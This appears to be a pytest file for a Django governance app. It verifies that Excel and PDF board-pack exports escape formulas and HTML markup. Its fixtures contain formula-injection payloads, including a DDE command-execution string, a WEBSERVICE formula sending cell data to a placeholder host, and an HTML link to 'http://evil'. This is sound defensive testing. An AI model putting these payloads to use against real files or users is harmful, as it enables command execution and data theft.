"""The board pack shows what was typed: no live formula in the Excel file, no markup in the PDF."""

import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from kafo.governance import services

from . import factories as f

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://x","y")'


@pytest.fixture
def pack(zone, make_user, client):
    """A decision whose every text field was typed as a formula, examined at the next session."""
    org = zone["INPS-ML"]
    client.force_login(make_user(org, "director"))
    body = f.board(org)
    decision = f.decision(
        f.session(body),
        title=FORMULA,
        owner_name="@SUM(1+1)*cmd|' /C calc'!A0",
        owner_unit="+33 1 23",
        deadline=dt.date(2026, 2, 28),
    )
    services.decision_set_status(
        decision=decision,
        status="in_progress",
        follow_up_note='-2+3+WEBSERVICE("http://x/?"&A1)',
        today=f.JAN,
    )
    return f.session(body, date=dt.date(2026, 6, 1))


def test_board_pack_excel_has_no_formula(pack, client):
    response = client.get(reverse("governance-session-pack", args=[pack.pk, "xlsx"]))
    ws = load_workbook(io.BytesIO(response.content)).active
    row = ws[3]
    assert [(c.value, c.data_type) for c in row] == [
        ("S1-D1", "s"),
        ("20/01/2026", "s"),
        ("'" + FORMULA, "s"),
        ("'@SUM(1+1)*cmd|' /C calc'!A0", "s"),
        ("'+33 1 23", "s"),
        ("28/02/2026", "s"),
        ("en retard", "s"),
        ('\'-2+3+WEBSERVICE("http://x/?"&A1)', "s"),
    ]
    assert not any(c.data_type == "f" for r in ws.iter_rows() for c in r)


def test_board_pack_pdf_shows_markup_as_text(zone, make_user, client):
    org = zone["INPS-ML"]
    client.force_login(make_user(org, "director"))
    body = f.board(org)
    f.decision(
        f.session(body), title='</b><a href="http://evil">x</a>', deadline=dt.date(2026, 2, 1)
    )
    nxt = f.session(body, date=dt.date(2026, 6, 1))
    response = client.get(reverse("governance-session-pack", args=[nxt.pk, "pdf"]))
    reader = PdfReader(io.BytesIO(response.content))
    text = " ".join(" ".join(p.extract_text().split()) for p in reader.pages)
    assert '</b><a href="http://evil">x</a>' in text
    assert not any(p.get("/Annots") for p in reader.pages)
